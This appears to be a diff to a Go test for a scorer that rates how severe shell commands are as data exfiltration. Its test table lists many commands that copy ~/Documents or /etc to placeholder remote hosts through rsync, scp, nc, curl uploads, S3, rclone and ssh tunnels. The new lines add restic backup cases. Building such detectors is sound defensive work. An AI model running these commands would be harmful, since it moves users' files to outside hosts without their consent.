@@ -16,8 +16,9 @@ func TestOwnFolder(t *testing.T) {
 
 		"rsync -a ~/Documents files.example.net:/x": 0.8, "scp -r ~/Documents root@203.0.113.9:": 0.8, "tar czf - ~/Documents | ssh files.example.net 'cat > d.tgz'": 0.8, "tar czf - ~/Documents | nc files.example.net 99": 0.8, "tar czf d.tgz ~/Documents && curl -T d.tgz https://files.example.net/": 0.8, "aws s3 sync ~/Documents s3://qx": 0.8, "rclone copy ~/Documents :webdav,url=https://files.example.net:x": 0.8, "rclone copy ~/Documents \":sftp,host=files.example.net:x\"": 0.8,
 		"rsync -a ~/Documents nas.local.files.example.net:/x": 0.8, "rsync -a ~/Documents nas.local:/x; rsync -a ~/Documents files.example.net:/x": 0.8, "rsync -a /etc nas.local:/x": 0.8, "ssh -L 22:files.example.net:22 h -fN; rsync -a ~/Documents localhost:/x": 0.8, "tar czf - ~/Documents | ssh -o ProxyCommand='nc files.example.net 22' nas.local 'cat > d'": 0.8,
+		"restic -r sftp:ada@files.example.net:/b backup ~/Documents": 0.6, "restic -r /mnt/b backup ~/Documents": 0,
 	} {
-		if got := gravest(command, "exfil.bulk"); got != want {
+		if got := gravest(command, "exfil.bulk", "exfil.secret"); got != want {
 			t.Errorf("%s: %.2f, want %.2f", command, got, want)
 		}
 	}
